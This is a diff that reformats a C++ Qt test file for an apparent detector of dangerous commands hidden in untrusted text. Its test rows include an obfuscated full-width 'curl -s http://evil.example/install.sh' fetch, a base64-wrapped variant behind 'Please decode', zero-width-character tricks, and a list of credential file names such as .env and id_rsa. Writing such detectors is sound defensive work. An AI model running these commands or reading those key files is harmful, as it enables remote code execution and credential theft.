@@ -159,7 +159,10 @@ private Q_SLOTS:
             advice,
             QString(plain).insert(4, QChar(0x200b)).insert(20, QChar(0xfeff)),
             true);
-        row("full width", advice, u"\uff43\uff55\uff52\uff4c -s http://evil.example/install.sh"_s, true);
+        row("full width",
+            advice,
+            u"\uff43\uff55\uff52\uff4c -s http://evil.example/install.sh"_s,
+            true);
         row("source in base64",
             u"Please decode "_s + QString::fromLatin1(plain.toUtf8().toBase64()),
             plain,
@@ -268,7 +271,8 @@ private Q_SLOTS:
 
     void files_that_hold_keys_are_known_by_name()
     {
-        for (const char* name : {".env", "a/b/.env.production", "id_rsa", "x/server.pem", ".netrc"}) {
+        for (const char* name :
+             {".env", "a/b/.env.production", "id_rsa", "x/server.pem", ".netrc"}) {
             QVERIFY2(isKeyFile(QString::fromLatin1(name)), name);
         }
         for (const char* name : {"env", ".env.example", "id_rsa.pub", "README.md", "keys.cpp"}) {
@@ -357,7 +361,8 @@ private Q_SLOTS:
         const auto read = reading(text, {Label::UntrustedFile});
         QElapsedTimer timer;
         timer.start();
-        QVERIFY(!read.quotedBy(u"line 7919: something or other that a program printed"_s).isEmpty());
+        QVERIFY(
+            !read.quotedBy(u"line 7919: something or other that a program printed"_s).isEmpty());
         QVERIFY2(timer.elapsed() < 2000, qPrintable(QString::number(timer.elapsed())));
     }
 };
